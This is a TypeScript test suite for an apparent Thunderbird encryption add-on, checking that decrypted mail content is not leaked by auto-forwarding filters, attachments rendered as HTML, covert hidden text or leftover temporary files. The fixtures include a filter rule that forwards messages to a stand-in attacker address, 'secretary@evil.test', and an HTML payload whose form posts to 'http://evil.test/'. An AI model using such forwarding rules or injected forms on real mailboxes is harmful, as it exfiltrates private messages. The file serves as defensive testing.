/**
 * What nobody gets of an opened message in a real Thunderbird: a filter that forwards, a drawn file with an
 * HTML name, a reply that quotes what nobody could see, the temporary folder after a forwarding.
 */
import assert from "node:assert/strict";
import { existsSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { attachment, encrypted, html, letter, mixed, plain } from "../../helpers/letters.js";
import { Composer } from "../../helpers/thunderbird/composer.js";
import { fillKeyring } from "../../helpers/thunderbird/keyring.js";
import { MailWindow } from "../../helpers/thunderbird/mail-window.js";
import { alice } from "../../helpers/thunderbird/profile.js";
import { waitFor } from "../../helpers/thunderbird/screen.js";
import type { World } from "../../helpers/thunderbird/world.js";
import { startWorld } from "../../helpers/thunderbird/world.js";

/** Spelled nowhere but in what was encrypted. */
const secret = "under-the-third-stone";

let world: World;
let window: MailWindow;

before(async () => {
  world = await startWorld({ addon: "dist/thunderbird" });
  await fillKeyring(world.addon, { identities: ["alice-rsa"] });
  const withFile = mixed(plain("with file"), attachment("map.txt", `map to ${secret}`));
  await world.mail.append("alice", "INBOX", letter({ subject: "with file" }, await sealed(withFile)));
  const open = mixed(plain("open words"), attachment("map.txt", "the public map"));
  await world.mail.append("alice", "INBOX", letter({ subject: "open letter" }, open));
  const byName = Buffer.from(
    'Content-Type: application/octet-stream; name="x.html"\r\nContent-Disposition: inline; filename="x.html"\r\n\r\n' +
      '<b id=drawn>bold</b><form action="http://evil.test/"><input name=a></form>\r\n',
  );
  const covert = html(`<style>.h{font-size:0;color:#fff}</style><p>Lunch?</p><div class=h>${secret}</div>`);
  for (const [subject, content] of [
    ["by name", mixed(plain("hello"), byName)],
    ["covert", covert],
  ] as const)
    await world.mail.append("alice", "INBOX", letter({ subject }, await sealed(content)));
  window = await MailWindow.open(world);
  await window.showFolder(alice);
});
after(() => world?.stop());

/** In a mode that anybody can change on the way. */
function sealed(content: Buffer): Promise<Buffer> {
  return encrypted(content, "alice-rsa", "aes-256-cbc");
}

/** A rule of the inbox, as the dialog makes it: forward what has this subject, in the text. */
async function forwardBySubject(subject: string): Promise<void> {
  await window.look(
    `const { MailServices } = ChromeUtils.importESModule("resource:///modules/MailServices.sys.mjs");
     const server = MailServices.accounts.allServers.find(s => s.type === "imap" && s.username.startsWith("alice"));
     Services.prefs.setIntPref("mail.forward_message_mode", 2);
     const list = server.getFilterList(null);
     const filter = list.createFilter("forward");
     filter.enabled = true;
     filter.filterType = Ci.nsMsgFilterType.InboxRule | Ci.nsMsgFilterType.Manual;
     const term = filter.createTerm();
     term.attrib = Ci.nsMsgSearchAttrib.Subject;
     term.op = Ci.nsMsgSearchOp.Contains;
     const value = term.value;
     value.attrib = Ci.nsMsgSearchAttrib.Subject;
     value.str = args[0];
     term.value = value;
     term.booleanAnd = true;
     filter.appendTerm(term);
     const action = filter.createAction();
     action.type = Ci.nsMsgFilterAction.Forward;
     action.strValue = "secretary@evil.test";
     filter.appendAction(action);
     list.insertFilterAt(0, filter);
     list.saveToDefaultFile();`,
    subject,
  );
}

/** Let the filters run on the message that is chosen, by the menu's own way. */
async function runFilters(): Promise<void> {
  await window.look(
    `const { MailServices } = ChromeUtils.importESModule("resource:///modules/MailServices.sys.mjs");
     MailServices.filters.applyFilters(Ci.nsMsgFilterType.Manual, [about.gMessage], [], panes.gFolder, window.msgWindow);`,
  );
}

function decoded(message: Buffer): string {
  const text = message.toString("latin1");
  const base64 = text.match(/^[A-Za-z0-9+/]{8,}={0,2}$/gm) ?? [];
  return text + base64.map((line) => Buffer.from(line, "base64").toString("latin1")).join("");
}

test("a filter that forwards gets nothing opened: when mail comes, and while the message is on the screen", async () => {
  await forwardBySubject("forward me");
  let sent = world.mail.captured.length;
  await world.mail.append(
    "alice",
    "INBOX",
    letter({ subject: "forward me" }, await sealed(plain(`Here: ${secret}`))),
  );
  await window.showFolder(alice);
  const came = await world.mail.waitForMessage(sent);
  assert.equal(decoded(came.message).includes(secret), false);
  assert.match(decoded(came.message), /its text is not here/);
  await window.choose("forward me");
  await window.waitForWords(secret);
  sent = world.mail.captured.length;
  await runFilters();
  const shown = await world.mail.waitForMessage(sent);
  assert.deepEqual(shown.to, ["secretary@evil.test"]);
  assert.equal(decoded(shown.message).includes(secret), false);
});

test("a person who forwards the same message gets its text", async () => {
  // Not chosen again: two clicks in a row would be a double click.
  const composer = await Composer.open(world, { type: "ForwardInline", original: await window.messageUri() });
  await waitFor("the text", async () => (await composer.body()).includes(secret));
  await composer.discard();
});

test("a file is not drawn as HTML by its name (RFC 2046 §4.5.1)", async () => {
  await window.choose("by name");
  await window.waitForWords("hello");
  await waitFor("the file in the list", async () => (await window.attachments()).includes("x.html.bin"));
  assert.equal(await window.look<boolean>(`return letter.querySelector("form, #drawn") === null`), true);
});

test("a reply quotes nothing that nobody could see (covert content)", async () => {
  await window.choose("covert");
  await window.waitForWords(secret);
  const size = await window.look<number>(
    `const walker = letter.createTreeWalker(letter.body, 4);
     for (let node = walker.nextNode(); node; node = walker.nextNode())
       if (node.data.includes(args[0])) return parseFloat(about.getComputedStyle(node.parentElement).fontSize);
     return 0;`,
    secret,
  );
  assert.ok(size >= 10, String(size));
});

test("the temporary folder holds a forwarded attachment while its window is open, and no longer", async () => {
  const files = (): readonly string[] => world.filesWith(world.temporary, secret);
  await window.choose("with file");
  await window.waitForWords("with file");
  const original = await window.messageUri();
  const discarded = await Composer.open(world, { type: "ForwardInline", original });
  await waitFor("the file", () => files().length === 1);
  await discarded.discard();
  await waitFor("the file to be gone", () => files().length === 0);
});

test("a forwarded attachment leaves as it should before its file goes", async () => {
  await window.choose("open letter");
  await window.waitForWords("open words");
  const composer = await Composer.open(world, { type: "ForwardInline", original: await window.messageUri() });
  await waitFor("the text", async () => (await composer.body()).includes("open words"));
  const sent = world.mail.captured.length;
  await composer.write({ to: "bob@example.test" });
  await waitFor(
    "the lock to say something",
    async () => (await composer.lockLabel(world.addon)) === "Not protected",
  );
  await composer.send();
  const { message } = await world.mail.waitForMessage(sent).catch(async (error: unknown) => {
    const windows = await window.run<string[]>(
      `return [...Services.wm.getEnumerator(null)].map(({ document }) => document.title + document.documentElement.innerText.slice(0, 300))`,
    );
    throw new Error(`${String(error)}; ${windows.join(" | ")}`);
  });
  assert.ok(decoded(message).includes("the public map"));
  await composer.waitUntilClosed();
  await waitFor("the file to be gone", () => world.filesWith(world.temporary, "the public map").length === 0);
});

test("a file that a crash left in the temporary folder goes at the next start, another of its name does not", async () => {
  const left = join(world.temporary, "nsmail-90.txt");
  const others = join(world.temporary, "nsmail-91.txt");
  for (const path of [left, others]) writeFileSync(path, "left behind");
  await window.look(
    `Services.prefs.setStringPref("extensions.signet.temporaryFiles", JSON.stringify([[args[0], args[2]], [args[1], 1]]))`,
    left,
    others,
    Math.floor(statSync(left).mtimeMs),
  );
  await world.addon.disable();
  await world.addon.enable();
  await waitFor("the file to be gone", () => !existsSync(left));
  assert.equal(existsSync(others), true);
});
